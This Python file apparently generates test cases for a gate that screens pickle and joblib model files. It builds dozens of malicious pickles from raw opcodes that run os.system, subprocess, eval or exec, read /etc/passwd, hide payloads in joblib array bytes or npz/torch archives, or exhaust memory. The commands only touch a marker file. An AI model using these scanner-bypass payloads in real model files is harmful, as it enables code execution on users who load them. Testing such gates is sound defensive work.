"""
Files that no gate may let pass, each written here from opcodes: what public scanners of pickles were bypassed with, and more. `MARK` stands for
a command that would leave a file behind if anything ever ran it.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib

import numpy as np
from sklearn.linear_model import LogisticRegression
from sklearn.preprocessing import FunctionTransformer, StandardScaler


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module, attribute):
    """GLOBAL of protocol 0 to 3."""
    return f"c{module}\n{attribute}\n".encode()


def by_stack(module, attribute):
    """STACK_GLOBAL of protocol 4, where a dotted attribute walks."""
    return text(module) + text(attribute) + b"\x93"


def call(module, attribute, *arguments):
    """attribute(*arguments) by REDUCE; arguments are opcodes."""
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def proto(body, version=4):
    return b"\x80" + bytes([version]) + body + b"."


def with_wrapper(behind, count=64):
    """A joblib file whose array's bytes are `behind`: joblib skips them, pickle.load obeys them."""
    fill = count - len(behind) - 6
    data = behind + b"U" + bytes([fill + 2]) + b"x" * (fill + 2) + b"00"
    state = b"}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + b"K" + bytes([len(data)]) + b"\x85" + text("order") + text("C")
    state += text("dtype") + name("numpy", "dtype") + text("u1") + b"\x85R" + text("allow_mmap") + b"\x89u"
    return b"\x80\x03" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + data + b"."


def dtype(code, state):
    return name("numpy", "dtype") + text(code) + b"\x85R" + pickle.dumps(state, 2)[2:-1] + b"b"


def commands(mark):
    """Ways to run `touch MARK`, by what they import."""
    touch = text(f"touch {mark}")
    python = text(f"import os; os.system('touch {mark}')")
    return {
        "os.system": proto(call("os", "system", touch)),
        "posix.system": proto(call("posix", "system", touch), 2),
        "protocol 0": b"cos\nsystem\n(S'touch " + mark.encode() + b"'\ntR.",
        "subprocess.Popen": proto(call("subprocess", "Popen", b"]" + text("touch") + b"a" + text(mark) + b"a")),
        "subprocess.getoutput": proto(call("subprocess", "getoutput", touch)),
        "commands of Python 2": proto(call("commands", "getoutput", touch), 2),
        "eval": proto(call("builtins", "eval", text(f"__import__('os').system('touch {mark}')"))),
        "exec by its old name": proto(call("__builtin__", "eval", text(f"__import__('os').system('touch {mark}')")), 2),
        "exec": proto(call("builtins", "exec", python)),
        "compile": proto(call("builtins", "compile", python, text("x"), text("exec"))),
        "__import__": proto(call("builtins", "__import__", text("antigravity"))),
        "getattr of a module": proto(name("builtins", "getattr") + name("builtins", "__import__") + text("__self__") + b"\x86R"),
        "getattr of a class": proto(call("builtins", "getattr", name("builtins", "object"), text("__subclasses__"))),
        "setattr": proto(call("builtins", "setattr", name("sklearn.base", "BaseEstimator"), text("x"), b"N")),
        "open": proto(call("builtins", "open", text(mark), text("w"))),
        "type of three": proto(call("builtins", "type", text("X"), b")", b"}")),
        "map": proto(call("builtins", "map", name("os", "system"), b"]" + touch + b"a")),
        "INST": b"(S'touch " + mark.encode() + b"'\nios\nsystem\n.",
        "OBJ": b"(" + name("os", "system") + touch + b"o.",
        "NEWOBJ": proto(name("subprocess", "Popen") + b"]" + text("touch") + b"a" + text(mark) + b"a\x85\x81"),
        "NEWOBJ_EX": proto(name("subprocess", "Popen") + b"]" + text("touch") + b"a" + text(mark) + b"a\x85}\x92"),
        "STACK_GLOBAL": proto(by_stack("os", "system") + touch + b"\x85R"),
        "names from the memo": proto(text("os") + b"\x94" + text("system") + b"\x9400h\x00h\x01\x93" + touch + b"\x85R"),
        "names computed": proto(call("_codecs", "encode", text("os"), text("latin1")) + text("system") + b"\x93" + touch + b"\x85R"),
        "dotted into a module": proto(by_stack("sklearn.base", "warnings.sys.modules")),
        "dotted through sklearn": proto(by_stack("sklearn", "utils.os.system") + touch + b"\x85R"),
        "module of sklearn": proto(name("sklearn.base", "warnings") + b"0"),
        "BUILD of a function": proto(call("os", "system", touch) + b"}b"),
        "second pickle": pickle.dumps({"a": 1}, 2) + proto(call("os", "system", touch)),
        "behind the end": pickle.dumps([1, 2, 3], 2) + b"\0" * 4 + proto(call("os", "system", touch)),
        "error after the call": proto(call("os", "system", touch) + b"R"),
        "no end": b"\x80\x04" + call("os", "system", touch),
        "one bad opcode later": b"\x80\x04" + call("os", "system", touch) + b"\xff\xff.",
        "no protocol": call("os", "system", touch) + b".",
        "protocol twice": b"\x80\x02\x80\x04" + call("os", "system", touch) + b".",
        "frames that lie": b"\x80\x04\x95" + struct.pack("<Q", len(call("os", "system", touch)) + 1) + call("os", "system", touch) + b".",
        "extension": b"\x80\x02\x82\x01.",
        "extension registered first": proto(call("copyreg", "add_extension", text("os"), text("system"), b"K\x01") + b"0\x82\x01" + touch + b"\x85R"),
        "persistent id": b"\x80\x02" + name("numpy", "dtype") + b"0Pos.system\n.",
        "operator.attrgetter": proto(call("operator", "attrgetter", text("system"))),
        "operator.methodcaller": proto(call("operator", "methodcaller", text("system"), touch)),
        "functools.partial": proto(call("functools", "partial", name("os", "system"), touch) + b")R"),
        "functools.partial by state": proto(name("functools", "partial") + name("numpy", "log1p") + b"\x85R(" + name("builtins", "exec") + b")}}tb"),
        "functools.partial of an object": proto(name("functools", "partial") + name("sklearn.base", "BaseEstimator") + b")\x81\x85R"),
        "functools.reduce": proto(name("functools", "reduce") + name("os", "system") + b"]" + touch + b"a\x86R"),
        "itertools": proto(call("itertools", "starmap", name("os", "system"), b"]")),
        "importlib": proto(call("importlib", "import_module", text("os"))),
        "runpy": proto(call("runpy", "run_path", text(mark))),
        "pty.spawn": proto(call("pty", "spawn", touch)),
        "bdb": proto(call("bdb", "Bdb")),
        "pdb.run": proto(call("pdb", "run", python)),
        "timeit": proto(call("timeit", "timeit", python)),
        "cProfile": proto(call("cProfile", "run", python)),
        "trace": proto(call("trace", "Trace")),
        "doctest": proto(call("doctest", "debug_script", python)),
        "code.InteractiveInterpreter": proto(call("code", "InteractiveInterpreter")),
        "codeop": proto(call("codeop", "compile_command", python)),
        "logging.config": proto(call("logging.config", "dictConfig", b"}")),
        "ctypes": proto(call("ctypes", "CDLL", text("libc.so.6"))),
        "socket": proto(call("socket", "create_connection", text("127.0.0.1"), b"K\x01")),
        "urllib": proto(call("urllib.request", "urlretrieve", text("http://127.0.0.1/"))),
        "http": proto(call("http.client", "HTTPConnection", text("127.0.0.1"))),
        "smtplib": proto(call("smtplib", "SMTP", text("127.0.0.1"))),
        "shutil": proto(call("shutil", "copyfile", text("/etc/passwd"), text(mark))),
        "tempfile": proto(call("tempfile", "mkdtemp")),
        "webbrowser": proto(call("webbrowser", "open", text("http://127.0.0.1"))),
        "asyncio": proto(call("asyncio.unix_events", "_UnixSubprocessTransport._start")),
        "venv": proto(call("venv", "create", text(mark))),
        "pip": proto(call("pip", "main", b"]" + text("install") + b"a")),
        "pydoc": proto(call("pydoc", "pipepager", text("x"), touch)),
        "idlelib": proto(call("idlelib.run", "Executive.runcode", python)),
        "lib2to3": proto(call("lib2to3.pgen2.grammar", "Grammar.loads", b"C\x00")),
        "ensurepip": proto(call("ensurepip", "_run_pip", b"]")),
        "marshal": proto(call("marshal", "loads", b"C\x01N")),
        "types.CodeType": proto(call("types", "CodeType")),
        "types.FunctionType": proto(call("types", "FunctionType")),
        "cloudpickle": proto(call("cloudpickle.cloudpickle", "_make_function", b"N")),
        "dill": proto(call("dill._dill", "_create_type", b"N")),
        "pickle.loads inside": proto(call("pickle", "loads", b"C\x01N")),
        "_pickle.Unpickler": proto(call("_pickle", "Unpickler")),
        "joblib.load": proto(call("joblib", "load", text(mark))),
        "joblib.Memory": proto(call("joblib.memory", "Memory", text(mark))),
        "joblib.Parallel": proto(call("joblib.parallel", "Parallel")),
        "joblib's eval": proto(call("joblib._utils", "eval_expr", text("2**9"))),
        "numpy.load": proto(call("numpy", "load", text(mark))),
        "numpy.save": proto(call("numpy", "save", text(mark), b"]")),
        "numpy.fromfile": proto(call("numpy", "fromfile", text("/etc/passwd"))),
        "numpy.memmap": proto(call("numpy", "memmap", text(mark), text("u1"), text("w+"), b"K\x00", b"K\x10\x85")),
        "numpy.memmap by NEWOBJ": proto(name("numpy", "memmap") + text(mark) + text("u1") + text("w+") + b"\x87\x81"),
        "numpy.testing": proto(call("numpy.testing._private.utils", "runstring", python, b"}")),
        "numpy.f2py": proto(call("numpy.f2py.crackfortran", "myeval", text("1"))),
        "numpy.f2py.diagnose": proto(call("numpy.f2py.diagnose", "run_command", touch)),
        "numpy.distutils": proto(call("numpy.distutils.exec_command", "exec_command", touch)),
        "numpy.ctypeslib": proto(call("numpy.ctypeslib", "load_library", text("x"), text("/"))),
        "numpy.DataSource": proto(call("numpy.lib._datasource", "DataSource", text(mark))),
        "numpy's ufunc by module": proto(call("numpy.core", "_ufunc_reconstruct", text("os"), text("system")) + touch + b"\x85R"),
        "numpy.frompyfunc": proto(call("numpy", "frompyfunc", name("os", "system"), b"K\x01", b"K\x01")),
        "numpy.vectorize called": proto(name("numpy", "vectorize") + name("numpy", "log1p") + b"\x85RK\x01\x85R"),
        "numpy.apply_along_axis": proto(call("numpy", "apply_along_axis", name("os", "system"))),
        "scipy.io": proto(call("scipy.io", "savemat", text(mark), b"}")),
        "scipy's text": proto(call("scipy.stats._distn_infrastructure", "rv_generic", b"N")),
        "pandas.read_pickle": proto(call("pandas.io.pickle", "read_pickle", text(mark))),
        "pandas.eval": proto(call("pandas.core.computation.eval", "eval", text("1"))),
        "pandas.io": proto(call("pandas.io.common", "get_handle", text(mark), text("w"))),
        "pandas' index of an array": proto(name("pandas.core.indexes.base", "_new_Index") + name("numpy", "ndarray") + b"}(" + text("shape") + b"K\x01" + text("dtype") + text("O") + text("buffer") + b"C\x0800000000u\x86R"),
        "sklearn.datasets": proto(call("sklearn.datasets", "load_files", text("/etc"))),
        "sklearn.externals": proto(call("sklearn.externals._arff", "load", text(mark))),
        "sklearn's test helpers": proto(call("sklearn.utils._testing", "TempMemmap", b"]")),
        "sklearn's joblib": proto(call("sklearn.utils._joblib", "load", text(mark))),
        "sklearn.utils.parallel": proto(call("sklearn.utils.parallel", "_FuncWrapper", name("os", "system"))),
        "function of sklearn called": proto(call("sklearn.feature_selection._univariate_selection", "f_classif", b"]", b"]")),
        "ufunc called": proto(call("numpy", "log1p", b"K\x01")),
        "numpy.ndarray called": proto(call("numpy", "ndarray", b"K\x01\x85", text("O"), b"C\x0800000000")),
        "object called": proto(name("sklearn.metrics._scorer", "_Scorer") + b")\x81)R"),
        "object called by OBJ": proto(b"(" + name("sklearn.metrics._scorer", "_Scorer") + b")\x81K\x01o"),
        "class changed": proto(name("sklearn.base", "BaseEstimator") + b"N}" + text("fit") + name("numpy", "log1p") + b"s\x86b"),
        "append set": proto(name("sklearn.base", "BaseEstimator") + b")\x81}" + text("append") + name("builtins", "len") + b"sbK\x01a"),
        "class of an object set": proto(name("sklearn.base", "BaseEstimator") + b")\x81N}" + text("__class__") + name("builtins", "int") + b"s\x86b"),
        "__setstate__ set": proto(name("sklearn.base", "BaseEstimator") + b")\x81}" + text("__setstate__") + name("builtins", "len") + b"sb"),
        "reconstructor of an array": proto(name("copyreg", "_reconstructor") + name("numpy", "ndarray") + name("numpy", "ndarray") + b"K\x01\x87R"),
        "script's own class": proto(name("__main__", "Model") + b")\x81"),
        "package that nobody named": proto(name("my_package.models", "Model") + b")\x81"),
        "xgboost that nobody named": proto(name("xgboost.sklearn", "XGBClassifier") + b")\x81"),
    }


def held(thing, module, attribute, placeholder=np.log1p):
    """A pickle of `thing`, which holds `placeholder`, with another function in its place."""
    data = pickle.dumps(thing, 2)
    old = f"cnumpy\n{placeholder.__name__}\n".encode()
    assert old in data
    return data.replace(old, name(module, attribute))


def arrays(mark):
    """What joblib and NumPy make of bytes."""
    touch = text(f"touch {mark}")
    inner = b"\x80\x02" + call("os", "system", touch) + b"."
    objects = io.BytesIO()
    np.save(objects, np.array([1, None], dtype=object), allow_pickle=True)
    start = objects.getvalue()[: objects.getvalue().index(b"\x80\x04", 10)]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("a.npy", start + inner)
    tensors = io.BytesIO()
    with zipfile.ZipFile(tensors, "w") as archive:
        archive.writestr("archive/data.pkl", inner)
        archive.writestr("archive/data/0", b"\0" * 16)
    fields = (3, "|", None, ("a",), {"a": (np.dtype("u8"), 64)}, 8, 1, 16)
    pointers = (3, "|", None, None, None, -1, -1, 0)
    return {
        "in an array's bytes": with_wrapper(call("os", "system", text("id"))),
        "joblib array of objects": b"\x80\x03" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + b"K\x01\x85" + text("order") + text("C") + text("dtype") + name("numpy", "dtype") + text("O8") + b"\x85R" + text("allow_mmap") + b"\x89ub" + inner + b".",
        "joblib array of a structure with objects": b"\x80\x03" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + b"K\x08\x85" + text("order") + text("C") + text("dtype") + dtype("V8", (3, "|", None, ("a",), {"a": (np.dtype("O"), 0)}, 8, 1, 63)) + text("allow_mmap") + b"\x89ub" + inner + b"x" * 40 + b".",
        "pointers from bytes": proto(dtype("O8", pointers)),
        "fields outside": proto(dtype("V8", fields)),
        "npy of objects": start + inner,
        "npz of objects": packed.getvalue(),
        "torch": tensors.getvalue(),
        "scipy's text in a state": proto(name("scipy.stats._continuous_distns", "uniform_gen") + b")\x81}" + text("_parse_arg_template") + text(f"import os; os.system('touch {mark}')") + b"sb", 2),
        "transformer of os.system": held(FunctionTransformer(np.log1p), "os", "system"),
        "transformer of eval": held(FunctionTransformer(np.log1p), "builtins", "eval"),
        "transformer of numpy.load": held(FunctionTransformer(np.log1p), "numpy", "load"),
        "transformer of a loader of sklearn": held(FunctionTransformer(np.log1p), "sklearn.datasets", "load_files"),
        "among real parts": pickle.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), 2)[:-1] + b"0" + call("os", "system", touch) + b".",
        "before real parts": b"\x80\x02" + call("os", "system", touch) + b"0" + pickle.dumps(StandardScaler(), 2)[2:],
    }


def sizes():
    """What would fill memory or never end."""
    return {
        "bytearray of a terabyte": proto(name("builtins", "bytearray") + b"\x8a\x06\0\0\0\0\0\x01\x85R"),
        "array of a terabyte": proto(name("numpy.core.multiarray", "_reconstruct") + name("numpy", "ndarray") + b"\x8a\x06\0\0\0\0\0\x01\x85C\x01b\x87R"),
        "bomb of gzip": gzip.compress(pickle.dumps(bytes(512 << 20), 4), 1),
        "cut off": pickle.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1]))[:-20],
        "cut off in an array": b"\x80\x03B\xff\xff\xff\x7f",
        "no pickle at all": b"hello",
        "nothing": b"",
        "a page": b"<!DOCTYPE html><html></html>",
    }


def packed(cases):
    """The first of the cases in each of joblib's compressions."""
    data = next(iter(cases.values()))
    packs = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress, "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE)}
    return {f"packed with {how}": pack(data) for how, pack in packs.items()}
